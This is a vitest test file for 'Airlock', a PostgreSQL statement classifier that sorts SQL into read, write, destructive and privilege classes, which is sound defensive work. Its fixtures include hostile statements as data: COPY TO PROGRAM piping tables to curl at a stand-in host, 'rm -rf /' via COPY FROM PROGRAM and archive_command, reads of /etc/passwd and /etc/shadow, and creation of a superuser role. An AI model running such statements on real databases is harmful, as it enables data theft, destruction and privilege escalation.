import { beforeAll, describe, expect, it } from 'vitest';
import type { OperationClass } from '../../core/operation.js';
import { analyzeSql, classifySql, loadSqlClassifier } from './index.js';

beforeAll(async () => {
  await loadSqlClassifier();
});

function only(sql: string, options?: Parameters<typeof classifySql>[1]) {
  const result = classifySql(sql, options);
  if (!result.ok) throw new Error(result.error);
  expect(result.parts).toHaveLength(1);
  return result.parts[0]!;
}

const TABLE: [sql: string, cls: OperationClass, action: string][] = [
  // reads
  ['SELECT 1', 'read', 'sql:SelectStmt'],
  ['select id, lower(name), count(*) over () from users where id = $1', 'read', 'sql:SelectStmt'],
  ['SELECT * FROM orders o JOIN users u ON u.id = o.user_id FOR UPDATE', 'read', 'sql:SelectStmt'],
  ['select now(), current_user, coalesce(null, 1), gen_random_uuid(), random()', 'read', 'sql:SelectStmt'],
  ['SELECT * FROM generate_series(1, 10) AS g(n)', 'read', 'sql:SelectStmt'],
  ["select pg_sleep(0.1), pg_advisory_lock(1), currval('s')", 'read', 'sql:SelectStmt'],
  ['SHOW search_path', 'read', 'sql:VariableShowStmt'],
  ["SET statement_timeout = '5s'", 'read', 'sql:VariableSetStmt'],
  ['RESET ALL', 'read', 'sql:VariableSetStmt'],
  ['BEGIN ISOLATION LEVEL SERIALIZABLE', 'read', 'sql:TransactionStmt'],
  ['SAVEPOINT a', 'read', 'sql:TransactionStmt'],
  ['COMMIT', 'read', 'sql:TransactionStmt'],
  ['EXPLAIN DELETE FROM users', 'read', 'sql:ExplainStmt'],
  ['EXPLAIN (ANALYZE false) DELETE FROM users', 'read', 'sql:ExplainStmt'],
  ['COPY users TO STDOUT', 'read', 'sql:CopyStmt'],
  ['COPY (SELECT * FROM users) TO STDOUT WITH (FORMAT csv)', 'read', 'sql:CopyStmt'],
  ['LISTEN jobs', 'read', 'sql:ListenStmt'],
  ['DECLARE c CURSOR FOR SELECT * FROM users', 'read', 'sql:DeclareCursorStmt'],
  ['FETCH 10 FROM c', 'read', 'sql:FetchStmt'],
  ['DISCARD ALL', 'read', 'sql:DiscardStmt'],
  ['DEALLOCATE ALL', 'read', 'sql:DeallocateStmt'],
  ['PREPARE p AS DELETE FROM users', 'read', 'sql:PrepareStmt'],
  ["SELECT uuid_generate_v4(), crypt('x', gen_salt('bf')), ST_Distance(a, b) FROM places", 'read', 'sql:SelectStmt'],
  ["SELECT query_to_xml('select 1', true, false, '')", 'read', 'sql:SelectStmt'],

  // writes
  ["INSERT INTO users (name) VALUES ('ada')", 'write', 'sql:InsertStmt'],
  ['INSERT INTO users (name) VALUES ($1) ON CONFLICT (name) DO UPDATE SET seen = now()', 'write', 'sql:InsertStmt'],
  ["UPDATE users SET name = 'x' WHERE id = 7", 'write', 'sql:UpdateStmt'],
  ['DELETE FROM users WHERE id = $1', 'write', 'sql:DeleteStmt'],
  ["DELETE FROM users WHERE created_at < now() - interval '30 days'", 'write', 'sql:DeleteStmt'],
  ['DELETE FROM users u USING banned b WHERE u.id = b.user_id', 'write', 'sql:DeleteStmt'],
  ['DELETE FROM users WHERE false', 'write', 'sql:DeleteStmt'],
  ['DELETE FROM users WHERE CURRENT OF c', 'write', 'sql:DeleteStmt'],
  ['DELETE FROM users WHERE id = 5 OR id = 6', 'write', 'sql:DeleteStmt'],
  ['WITH moved AS (DELETE FROM queue WHERE id = 1 RETURNING *) INSERT INTO done SELECT * FROM moved', 'write', 'sql:InsertStmt'],
  ['MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE', 'write', 'sql:MergeStmt'],
  ["CREATE TABLE t (id serial primary key, name text not null default '')", 'write', 'sql:CreateStmt'],
  ['CREATE INDEX CONCURRENTLY ON t (lower(name))', 'write', 'sql:IndexStmt'],
  ['CREATE VIEW v AS SELECT * FROM t', 'write', 'sql:ViewStmt'],
  ['CREATE TABLE t2 AS SELECT * FROM t', 'write', 'sql:CreateTableAsStmt'],
  ['SELECT * INTO t3 FROM t', 'write', 'sql:SelectStmt'],
  ['ALTER TABLE t ADD COLUMN email text', 'write', 'sql:AlterTableStmt'],
  ["ALTER TABLE t ALTER COLUMN email SET DEFAULT ''", 'write', 'sql:AlterTableStmt'],
  ['ALTER TABLE t RENAME TO t_old', 'write', 'sql:RenameStmt'],
  ['COPY users FROM STDIN', 'write', 'sql:CopyStmt'],
  ['VACUUM ANALYZE users', 'write', 'sql:VacuumStmt'],
  ['ANALYZE users', 'write', 'sql:VacuumStmt'],
  ['REINDEX TABLE users', 'write', 'sql:ReindexStmt'],
  ['REFRESH MATERIALIZED VIEW CONCURRENTLY mv', 'write', 'sql:RefreshMatViewStmt'],
  ["NOTIFY jobs, 'go'", 'write', 'sql:NotifyStmt'],
  ["SELECT nextval('users_id_seq')", 'write', 'sql:SelectStmt'],
  ["SELECT pg_notify('jobs', 'go')", 'write', 'sql:SelectStmt'],
  ['CREATE SCHEMA app', 'write', 'sql:CreateSchemaStmt'],
  ['CREATE DATABASE app2', 'write', 'sql:CreatedbStmt'],
  ["COMMENT ON TABLE t IS 'people'", 'write', 'sql:CommentStmt'],
  ["CREATE FUNCTION add(a int, b int) RETURNS int LANGUAGE sql AS 'select a + b'", 'write', 'sql:CreateFunctionStmt'],
  ['CREATE FUNCTION touch() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN NEW.updated_at := now(); RETURN NEW; END $$', 'write', 'sql:CreateFunctionStmt'],
  // The trigger runs touch() on every row: a function Airlock does not know is judged unknown.
  ['CREATE TRIGGER touch BEFORE UPDATE ON t FOR EACH ROW EXECUTE FUNCTION touch()', 'destructive', 'sql:CreateTrigStmt'],
  ['CREATE TRIGGER stamp BEFORE UPDATE ON t FOR EACH ROW EXECUTE FUNCTION suppress_redundant_updates_trigger()', 'write', 'sql:CreateTrigStmt'],
  ['LOCK TABLE t IN SHARE MODE', 'write', 'sql:LockStmt'],

  // destructive
  ['DROP TABLE users', 'destructive', 'sql:DropStmt'],
  ['drop table if exists a, b cascade', 'destructive', 'sql:DropStmt'],
  ['DROP SCHEMA app CASCADE', 'destructive', 'sql:DropStmt'],
  ['DROP DATABASE app', 'destructive', 'sql:DropdbStmt'],
  ['DROP INDEX CONCURRENTLY users_name_idx', 'destructive', 'sql:DropStmt'],
  ['DROP FUNCTION f(int)', 'destructive', 'sql:DropStmt'],
  ['DROP OWNED BY bob', 'destructive', 'sql:DropOwnedStmt'],
  ['TRUNCATE users', 'destructive', 'sql:TruncateStmt'],
  ['TRUNCATE users, orders RESTART IDENTITY CASCADE', 'destructive', 'sql:TruncateStmt'],
  ['DELETE FROM users', 'destructive', 'sql:DeleteStmt'],
  ['UPDATE users SET admin = true', 'destructive', 'sql:UpdateStmt'],
  ['DELETE FROM users WHERE true', 'destructive', 'sql:DeleteStmt'],
  ['DELETE FROM users WHERE 1 = 1', 'destructive', 'sql:DeleteStmt'],
  ["DELETE FROM users WHERE 'a' = 'a'", 'destructive', 'sql:DeleteStmt'],
  ["DELETE FROM users WHERE 't'::boolean", 'destructive', 'sql:DeleteStmt'],
  ['DELETE FROM users WHERE NOT false', 'destructive', 'sql:DeleteStmt'],
  ['DELETE FROM users WHERE 2 > 1', 'destructive', 'sql:DeleteStmt'],
  ['DELETE FROM users WHERE id = id', 'destructive', 'sql:DeleteStmt'],
  ['DELETE FROM users WHERE id >= id', 'destructive', 'sql:DeleteStmt'],
  ['DELETE FROM users WHERE id IS NOT DISTINCT FROM id', 'destructive', 'sql:DeleteStmt'],
  ['DELETE FROM users WHERE id = 5 OR true', 'destructive', 'sql:DeleteStmt'],
  ['DELETE FROM users WHERE id = 5 OR 1 = 1', 'destructive', 'sql:DeleteStmt'],
  ['DELETE FROM users WHERE id = 5 OR $2', 'destructive', 'sql:DeleteStmt'],
  ["DELETE FROM users WHERE name LIKE '%'", 'destructive', 'sql:DeleteStmt'],
  ['DELETE FROM users WHERE id IN (1, id)', 'destructive', 'sql:DeleteStmt'],
  ['DELETE FROM users WHERE email IS NULL OR email IS NOT NULL', 'destructive', 'sql:DeleteStmt'],
  ['DELETE FROM users WHERE NOT (id <> id)', 'destructive', 'sql:DeleteStmt'],
  ['DELETE FROM users WHERE (id = id) AND (1 = 1)', 'destructive', 'sql:DeleteStmt'],
  ['DELETE FROM users WHERE EXISTS (SELECT 1)', 'destructive', 'sql:DeleteStmt'],
  ["DELETE FROM users WHERE now() > '2000-01-01'", 'destructive', 'sql:DeleteStmt'],
  ['DELETE FROM users WHERE $1', 'destructive', 'sql:DeleteStmt'],
  ['UPDATE users SET admin = true WHERE (id = id) IS TRUE', 'destructive', 'sql:UpdateStmt'],
  ['WITH gone AS (DELETE FROM users RETURNING *) SELECT count(*) FROM gone', 'destructive', 'sql:SelectStmt'],
  ['WITH x AS (UPDATE users SET admin = true RETURNING id) SELECT 1', 'destructive', 'sql:SelectStmt'],
  ['EXPLAIN ANALYZE DELETE FROM users', 'destructive', 'sql:ExplainStmt'],
  ['COPY (DELETE FROM users RETURNING *) TO STDOUT', 'destructive', 'sql:CopyStmt'],
  ['MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE', 'destructive', 'sql:MergeStmt'],
  ['ALTER TABLE users DROP COLUMN email', 'destructive', 'sql:AlterTableStmt'],
  ['ALTER TABLE users DROP CONSTRAINT users_pkey CASCADE', 'destructive', 'sql:AlterTableStmt'],
  ['ALTER TABLE users ALTER COLUMN email DROP DEFAULT', 'destructive', 'sql:AlterTableStmt'],
  ['ALTER TABLE users ALTER COLUMN email DROP NOT NULL', 'destructive', 'sql:AlterTableStmt'],
  ['ALTER TABLE users ALTER COLUMN name TYPE varchar(3)', 'destructive', 'sql:AlterTableStmt'],
  ['ALTER TABLE users SET UNLOGGED', 'destructive', 'sql:AlterTableStmt'],
  ['ALTER TABLE measurements DETACH PARTITION measurements_2024', 'destructive', 'sql:AlterTableStmt'],
  ['ALTER DOMAIN d DROP CONSTRAINT c', 'destructive', 'sql:AlterDomainStmt'],
  ['VACUUM FULL users', 'destructive', 'sql:VacuumStmt'],
  ['VACUUM (FULL, ANALYZE)', 'destructive', 'sql:VacuumStmt'],
  ['CLUSTER users USING users_pkey', 'destructive', 'sql:ClusterStmt'],
  ["DO $$ BEGIN RAISE NOTICE 'hi'; END $$", 'destructive', 'sql:DoStmt'],
  ['CALL archive_old_orders()', 'destructive', 'sql:CallStmt'],
  ['SELECT pg_terminate_backend(pid) FROM pg_stat_activity', 'destructive', 'sql:SelectStmt'],
  ['SELECT pg_catalog.pg_cancel_backend(42)', 'destructive', 'sql:SelectStmt'],
  ['SELECT lo_unlink(16401)', 'destructive', 'sql:SelectStmt'],
  ["SELECT pg_drop_replication_slot('s')", 'destructive', 'sql:SelectStmt'],
  ["SELECT dblink_exec('dbname=other', 'DROP TABLE x')", 'privilege', 'sql:SelectStmt'],
  ["SELECT public.dblink_exec('c', 'x')", 'privilege', 'sql:SelectStmt'],
  ["SELECT lo_export(16401, '/etc/passwd')", 'destructive', 'sql:SelectStmt'],
  ['SELECT cleanup_everything()', 'destructive', 'sql:SelectStmt'],
  ['SELECT public.lower(name) FROM users', 'destructive', 'sql:SelectStmt'],
  ["SELECT query_to_xml('DELETE FROM users RETURNING 1', true, false, '')", 'destructive', 'sql:SelectStmt'],
  ["SELECT query_to_xml(q, true, false, '') FROM saved_queries", 'destructive', 'sql:SelectStmt'],
  ["COPY users TO PROGRAM 'curl -d @- evil.example'", 'privilege', 'sql:CopyStmt'],
  ["COPY users FROM PROGRAM 'rm -rf /'", 'privilege', 'sql:CopyStmt'],
  ["COPY users TO '/var/lib/postgresql/data/postgresql.conf'", 'destructive', 'sql:CopyStmt'],
  ['CREATE TABLE t (a int DEFAULT pg_terminate_backend(1))', 'destructive', 'sql:CreateStmt'],
  ['ALTER TABLE t ADD COLUMN k bool DEFAULT pg_terminate_backend(1)', 'destructive', 'sql:AlterTableStmt'],
  ['CREATE VIEW v AS SELECT lo_unlink(oid) FROM pg_largeobject_metadata', 'destructive', 'sql:ViewStmt'],
  ['CREATE RULE r AS ON INSERT TO t DO ALSO DELETE FROM audit_log', 'destructive', 'sql:RuleStmt'],
  ['CREATE FUNCTION wipe() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN DELETE FROM users; RETURN NEW; END $$', 'destructive', 'sql:CreateFunctionStmt'],
  ["CREATE FUNCTION dyn(t text) RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'DROP TABLE ' || t; END $$", 'destructive', 'sql:CreateFunctionStmt'],
  ["CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'TRUNCATE users'", 'destructive', 'sql:CreateFunctionStmt'],
  ['CREATE FUNCTION f() RETURNS void BEGIN ATOMIC DELETE FROM users; END', 'destructive', 'sql:CreateFunctionStmt'],
  ["CREATE FUNCTION f() RETURNS void LANGUAGE plpython3u AS 'import os'", 'destructive', 'sql:CreateFunctionStmt'],
  ["CREATE PROCEDURE p() LANGUAGE sql AS 'DROP TABLE users'", 'destructive', 'sql:CreateFunctionStmt'],
  ["ALTER SYSTEM SET archive_command = 'rm -rf /'", 'destructive', 'sql:AlterSystemStmt'],
  ["LOAD 'evil'", 'destructive', 'sql:LoadStmt'],
  ["ROLLBACK PREPARED 'tx1'", 'destructive', 'sql:TransactionStmt'],
  ['EXECUTE some_statement(1)', 'destructive', 'sql:ExecuteStmt'],

  // privilege
  ['GRANT SELECT ON users TO analyst', 'privilege', 'sql:GrantStmt'],
  ['GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC', 'privilege', 'sql:GrantStmt'],
  ['REVOKE INSERT ON users FROM app', 'privilege', 'sql:GrantStmt'],
  ['GRANT admin TO agent', 'privilege', 'sql:GrantRoleStmt'],
  ["CREATE ROLE intruder LOGIN SUPERUSER PASSWORD 'x'", 'privilege', 'sql:CreateRoleStmt'],
  ['ALTER ROLE app SUPERUSER', 'privilege', 'sql:AlterRoleStmt'],
  ['ALTER USER app WITH PASSWORD NULL', 'privilege', 'sql:AlterRoleStmt'],
  ['ALTER ROLE app SET search_path = x', 'privilege', 'sql:AlterRoleSetStmt'],
  ['DROP ROLE bob', 'privilege', 'sql:DropRoleStmt'],
  ['SET ROLE postgres', 'privilege', 'sql:VariableSetStmt'],
  ['SET LOCAL ROLE postgres', 'privilege', 'sql:VariableSetStmt'],
  ['SET SESSION AUTHORIZATION postgres', 'privilege', 'sql:VariableSetStmt'],
  ['SET session_replication_role = replica', 'privilege', 'sql:VariableSetStmt'],
  ["SELECT set_config('role', 'postgres', false)", 'privilege', 'sql:SelectStmt'],
  ['SELECT set_config(name, value, false) FROM settings', 'privilege', 'sql:SelectStmt'],
  ["CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER AS 'select 1'", 'privilege', 'sql:CreateFunctionStmt'],
  ['ALTER FUNCTION f() SECURITY DEFINER', 'privilege', 'sql:AlterFunctionStmt'],
  ['ALTER TABLE users OWNER TO intruder', 'privilege', 'sql:AlterTableStmt'],
  ['ALTER TABLE users DISABLE ROW LEVEL SECURITY', 'privilege', 'sql:AlterTableStmt'],
  ['ALTER TABLE users DISABLE TRIGGER ALL', 'privilege', 'sql:AlterTableStmt'],
  ['ALTER SCHEMA app OWNER TO intruder', 'privilege', 'sql:AlterOwnerStmt'],
  ['ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO analyst', 'privilege', 'sql:AlterDefaultPrivilegesStmt'],
  ['CREATE POLICY everyone ON users USING (true)', 'privilege', 'sql:CreatePolicyStmt'],
  ['REASSIGN OWNED BY bob TO intruder', 'privilege', 'sql:ReassignOwnedStmt'],
  ['CREATE EXTENSION dblink', 'privilege', 'sql:CreateExtensionStmt'],
  ["COPY users FROM '/etc/passwd'", 'privilege', 'sql:CopyStmt'],
  ["SELECT pg_read_file('/etc/passwd')", 'privilege', 'sql:SelectStmt'],
  ["SELECT lo_import('/etc/shadow')", 'privilege', 'sql:SelectStmt'],
  ['SELECT pg_reload_conf()', 'privilege', 'sql:SelectStmt'],
  ["CREATE USER MAPPING FOR app SERVER s OPTIONS (password 'x')", 'privilege', 'sql:CreateUserMappingStmt'],
  ['CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()', 'privilege', 'sql:CreateEventTrigStmt'],
];

describe('classifySql', () => {
  it.each(TABLE)('classifies %s as %s (%s)', (sql, cls, action) => {
    const part = only(sql);
    expect(part.class).toBe(cls);
    expect(part.action).toBe(action);
    if (cls !== 'read' && cls !== 'write') expect(part.why).toBeTruthy();
  });

  it('names the relations a statement touches, as written', () => {
    expect(only('DROP TABLE IF EXISTS app.users, orders CASCADE').resources).toEqual(['app.users', 'orders']);
    expect(only('TRUNCATE a, b').resources).toEqual(['a', 'b']);
    expect(only('SELECT * FROM app.users u JOIN orders o ON o.uid = u.id').resources).toEqual(['app.users', 'orders']);
    expect(only('DELETE FROM app.users WHERE id = 1').resources).toEqual(['app.users']);
    expect(only('DROP DATABASE shop').resources).toEqual(['shop']);
    expect(only('GRANT admin TO agent').resources).toEqual(['admin']);
  });

  it('does not count a CTE name as a relation', () => {
    expect(only('WITH recent AS (SELECT * FROM orders) SELECT * FROM recent').resources).toEqual(['orders']);
  });

  it('says why a statement is destructive, naming the table', () => {
    expect(only('DELETE FROM users WHERE 1 = 1').why).toMatch(/every row of users/);
    expect(only('DROP SCHEMA app CASCADE').why).toMatch(/schema app, and with CASCADE everything that depends on it/);
    expect(only('SELECT cleanup()').why).toMatch(/cleanup\(\) is a function whose effect Airlock does not know/);
    expect(only('DO $$ BEGIN END $$').why).toMatch(/DO block/);
  });

  it('gives one part per statement, each with its own text', () => {
    const result = classifySql('SELECT 1; DELETE FROM users WHERE id = 1;\nDROP TABLE users; -- done');
    expect(result.ok).toBe(true);
    if (!result.ok) return;
    expect(result.parts.map((p) => [p.action, p.class, p.text])).toEqual([
      ['sql:SelectStmt', 'read', 'SELECT 1'],
      ['sql:DeleteStmt', 'write', 'DELETE FROM users WHERE id = 1'],
      ['sql:DropStmt', 'destructive', 'DROP TABLE users'],
    ]);
  });

  it('cuts statement texts at the right place after multi-byte characters', () => {
    const result = classifySql("SELECT 'héllo wörld'; DROP TABLE ünïcode");
    expect(result.ok && result.parts.map((p) => p.text)).toEqual(["SELECT 'héllo wörld'", 'DROP TABLE ünïcode']);
  });

  it('returns an empty list of parts for a text with no statement', () => {
    expect(classifySql('-- nothing here\n')).toEqual({ ok: true, parts: [] });
  });

  it('refuses to classify text the PostgreSQL parser rejects, with its message and position', () => {
    const result = classifySql("SELECT 'é'; sel ect");
    expect(result.ok).toBe(false);
    const analysis = analyzeSql("SELECT 'é'; sel ect");
    expect(analysis.ok).toBe(false);
    if (analysis.ok) return;
    expect(analysis.error).toBe('syntax error at or near "sel"');
    expect(analysis.position).toBe(13);
  });

  it('resolves EXECUTE of a statement prepared earlier in the same text', () => {
    const result = classifySql('PREPARE wipe AS DELETE FROM users; EXECUTE wipe');
    expect(result.ok && result.parts.map((p) => p.class)).toEqual(['read', 'destructive']);
    const safe = classifySql('PREPARE one(int) AS SELECT * FROM users WHERE id = $1; EXECUTE one(1)');
    expect(safe.ok && safe.parts.map((p) => p.class)).toEqual(['read', 'read']);
  });

  it('reports what the door must track: prepares, executes, deallocates and the hold id', () => {
    const analysis = analyzeSql("PREPARE p AS DELETE FROM t; EXECUTE q; DEALLOCATE p; SET airlock.hold = 'hold_0123456789abcdefghij'");
    if (!analysis.ok) throw new Error(analysis.error);
    const [prepare, execute, deallocate] = analysis.statements;
    expect(prepare!.prepares).toEqual({
      name: 'p',
      action: 'sql:DeleteStmt',
      class: 'destructive',
      resources: ['t'],
      why: expect.stringMatching(/every row of t/),
    });
    expect(execute!.executes).toBe('q');
    expect(deallocate!.deallocates).toBe('p');
    expect(analysis.holdId).toBe('hold_0123456789abcdefghij');
  });

  it('reports the settings a statement changes, so that the door can guard how SQL is read', () => {
    const analysis = analyzeSql("SET NAMES 'SJIS'; RESET standard_conforming_strings; SELECT set_config('standard_conforming_strings', 'off', false)");
    if (!analysis.ok) throw new Error(analysis.error);
    expect(analysis.statements.map((s) => s.settings)).toEqual([
      [{ name: 'client_encoding', value: 'SJIS' }],
      [{ name: 'standard_conforming_strings', value: null }],
      [{ name: 'standard_conforming_strings', value: 'off' }],
    ]);
  });

  it('reads a hold id from a comment', () => {
    const analysis = analyzeSql('/* airlock.hold=hold_0123456789abcdefghij */ DROP TABLE users');
    expect(analysis.ok && analysis.holdId).toBe('hold_0123456789abcdefghij');
  });

  it('gives the same canonical text whatever the comments, spacing, keyword case and SET airlock.hold', () => {
    const canonical = (sql: string) => {
      const analysis = analyzeSql(sql);
      if (!analysis.ok) throw new Error(analysis.error);
      return analysis.canonical;
    };
    const base = canonical('DROP TABLE users');
    expect(canonical('drop   table Users -- again')).toBe(base);
    expect(canonical('/* airlock.hold=hold_0123456789abcdefghij */\nDROP TABLE users;')).toBe(base);
    expect(canonical("SET airlock.hold = 'hold_0123456789abcdefghij'; DROP TABLE users")).toBe(base);
    expect(canonical('DROP TABLE "Users"')).not.toBe(base);
    expect(canonical("DELETE FROM users WHERE name = 'Ada'")).not.toBe(canonical("DELETE FROM users WHERE name = 'ada'"));
    // IN lists and ARRAY[…] carry the positions of their brackets too.
    expect(canonical('DELETE FROM users WHERE id IN (1, 2) AND tag = ANY (ARRAY[3])')).toBe(
      canonical('delete from users where id in(1,2) and tag = any(array[3])'),
    );
    expect(canonical('DELETE FROM users WHERE id IN (1, 2)')).not.toBe(canonical('DELETE FROM users WHERE id IN (1, 3)'));
  });

  it('counts the parameters a statement uses', () => {
    const analysis = analyzeSql('UPDATE users SET name = $2 WHERE id = $1');
    expect(analysis.ok && analysis.parameters).toBe(2);
  });

  it('uses the configured class for functions Airlock does not know', () => {
    const options = { functions: { 'app.refresh_*': 'write', 'st_*': 'read', risky: 'destructive' } } as const;
    expect(only('SELECT app.refresh_totals()', options).class).toBe('write');
    expect(only('SELECT refresh_totals()', options).class).toBe('destructive');
    expect(only('CALL app.refresh_all()', options).class).toBe('write');
    expect(only('SELECT risky()', options).why).toMatch(/configured as destructive/);
  });

  it('caches by text: a hot query is parsed once', () => {
    const first = analyzeSql('SELECT * FROM cached_table WHERE id = $1');
    const second = analyzeSql('SELECT * FROM cached_table WHERE id = $1');
    expect(second).toBe(first);
    expect(Object.isFrozen(first)).toBe(true);
  });

  it('does not crash on deeply nested SQL inside SQL, and calls it unknown', () => {
    let sql = 'DELETE FROM t';
    for (let i = 0; i < 8; i++) sql = `SELECT query_to_xml('${sql.replace(/'/g, "''")}', true, false, '')`;
    const part = only(sql);
    expect(part.class).toBe('destructive');
  });
});

describe('classifySql on broken input', () => {
  it('never throws on any prefix of any statement in the table: each is classified or unclassifiable', () => {
    for (const [sql] of TABLE) {
      for (let end = 1; end <= sql.length; end += 3) {
        const result = classifySql(sql.slice(0, end));
        expect(typeof result.ok).toBe('boolean');
      }
    }
  });
});

describe('settings, replication and foreign servers', () => {
  it.each([
    "SET log_statement = 'none'",
    "SET client_encoding = 'SJIS'",
    "SELECT pg_catalog.set_config('standard_conforming_strings', 'off', false)",
    "SET session_preload_libraries = 'evil'",
    'CREATE PUBLICATION p FOR ALL TABLES',
    "CREATE SUBSCRIPTION s CONNECTION 'host=x' PUBLICATION p",
    "CREATE SERVER s FOREIGN DATA WRAPPER dblink_fdw OPTIONS (host 'x')",
    // The same settings by other routes: the catalog view, stored per database, role or function.
    "UPDATE pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings'",
    "UPDATE pg_catalog.pg_settings SET setting = 'SJIS' WHERE name = 'client_encoding'",
    'ALTER DATABASE app SET standard_conforming_strings = off',
    "ALTER ROLE agent SET client_encoding = 'SJIS'",
    'ALTER FUNCTION f() SET standard_conforming_strings = off',
    "CREATE FUNCTION g() RETURNS int LANGUAGE sql SET client_encoding = 'BIG5' AS 'select 1'",
    "INSERT INTO pg_catalog.pg_authid (rolname) VALUES ('x')",
    "SELECT pg_create_logical_replication_slot('s', 'pgoutput')",
    "SELECT * FROM pg_logical_slot_peek_changes('s', NULL, NULL)",
    "SELECT dblink_connect('host=prod')",
    "SELECT dblink('host=prod', 'DROP TABLE orders')",
    "COPY orders TO PROGRAM 'curl -d @- http://x.example'",
    'SET search_path = public, pg_catalog',
    "SELECT set_config('search_path', 'public, pg_catalog', false)",
  ])('holds %s as privilege', (sql) => {
    expect(only(sql).class).toBe('privilege');
  });

  it.each([
    'SET search_path = app',
    'SET search_path = pg_catalog, app',
    'SET statement_timeout = 5000',
    "SELECT set_config('app.tenant', 'x', true)",
    "SET client_encoding = 'UTF8'",
    'SET standard_conforming_strings = on',
  ])('lets %s through as ordinary', (sql) => {
    expect(only(sql).class).toBe('read');
  });

  it.each(['ALTER DATABASE app SET statement_timeout = 5000', 'ALTER FUNCTION f() SET search_path = app'])('keeps %s a write', (sql) => {
    expect(only(sql).class).toBe('write');
  });
});

describe('objects that call code later', () => {
  it.each([
    'CREATE OPERATOR ### (FUNCTION = lo_unlink, RIGHTARG = oid)',
    'CREATE OPERATOR #@ (PROCEDURE = pg_catalog.pg_terminate_backend, RIGHTARG = int)',
    'CREATE OPERATOR public.+ (FUNCTION = lo_unlink, RIGHTARG = oid)',
    'CREATE AGGREGATE wipe(oid) (SFUNC = lo_unlink_acc, STYPE = int)',
    'CREATE AGGREGATE wipe(int) (SFUNC = int4pl, STYPE = int, FINALFUNC = pg_terminate_backend)',
    'CREATE CAST (int AS text) WITH FUNCTION pg_terminate_backend(int)',
    'CREATE TRIGGER t BEFORE INSERT ON orders FOR EACH ROW EXECUTE FUNCTION unknown_fn()',
    'CREATE TRIGGER t BEFORE INSERT ON orders FOR EACH ROW EXECUTE PROCEDURE unknown_fn()',
    'CREATE RULE r AS ON INSERT TO orders DO INSTEAD NOTHING',
    'CREATE OR REPLACE RULE r AS ON UPDATE TO orders DO INSTEAD DELETE FROM orders WHERE id = NEW.id',
    'CREATE RULE r AS ON INSERT TO orders DO ALSO DELETE FROM payments WHERE order_id = NEW.id',
    'CREATE TABLE t (x int DEFAULT pg_terminate_backend(1))',
    'CREATE TABLE t (x int CHECK (lo_unlink(x) > 0))',
    'CREATE DOMAIN d AS int CHECK (lo_unlink(VALUE) > 0)',
    'ALTER TABLE orders ALTER COLUMN id SET DEFAULT lo_unlink(1)',
    'CREATE TRANSFORM FOR int LANGUAGE plpgsql (FROM SQL WITH FUNCTION f(internal), TO SQL WITH FUNCTION g(internal))',
    'CREATE OPERATOR CLASS oc FOR TYPE int USING btree AS OPERATOR 1 ###, FUNCTION 1 f(int, int)',
    'CREATE TYPE t (INPUT = evil_in, OUTPUT = evil_out)',
    'ALTER OPERATOR === (int, int) SET (RESTRICT = evil_sel)',
    // Using an operator somebody defined runs its function.
    'SELECT ### 4242::oid',
    'SELECT 1 OPERATOR(public.+) 2',
    'SELECT * FROM t WHERE x ### 1',
    'DELETE FROM orders WHERE id = 5 AND id ### 1',
  ])('holds %s as destructive', (sql) => {
    expect(only(sql).class).toBe('destructive');
  });

  it.each([
    'CREATE OPERATOR === (FUNCTION = int4eq, LEFTARG = int, RIGHTARG = int)',
    'CREATE AGGREGATE total(int) (SFUNC = int4pl, STYPE = int)',
    'CREATE TRIGGER stamp BEFORE UPDATE ON t FOR EACH ROW EXECUTE FUNCTION suppress_redundant_updates_trigger()',
    'CREATE RULE r AS ON INSERT TO orders_view DO INSTEAD INSERT INTO orders VALUES (NEW.id)',
    "CREATE TABLE t (id int DEFAULT nextval('s'), at timestamptz DEFAULT now() CHECK (at > now() - interval '1 day'))",
  ])('keeps %s a write', (sql) => {
    expect(only(sql).class).toBe('write');
  });

  it.each([
    'DELETE FROM orders WHERE id BETWEEN 1 AND 3',
    'SELECT * FROM t WHERE x NOT BETWEEN SYMMETRIC 5 AND 1',
    'SELECT * FROM t WHERE x IN (1, 2) AND y NOT IN (3)',
    "SELECT * FROM t WHERE name LIKE 'a%' OR name ILIKE 'b%' OR name SIMILAR TO 'c%'",
    'SELECT NULLIF(a, b), a IS DISTINCT FROM b FROM t',
  ])('keeps %s as it was: its operators are PostgreSQL’s own', (sql) => {
    expect(['read', 'write']).toContain(only(sql).class);
  });

  it.each([
    'SELECT 1 + 2',
    "SELECT 'a' || 'b'",
    'SELECT 1 OPERATOR(pg_catalog.+) 2',
    "SELECT doc @> '{}'::jsonb FROM t",
    "SELECT x FROM t WHERE name ~~* 'a%'",
  ])('reads %s with PostgreSQL’s own operators', (sql) => {
    expect(only(sql).class).toBe('read');
  });

  it('names the function an operator would run', () => {
    expect(only('CREATE OPERATOR ### (FUNCTION = lo_unlink, RIGHTARG = oid)').why).toMatch(/lo_unlink.*every use.*large object/);
  });
});
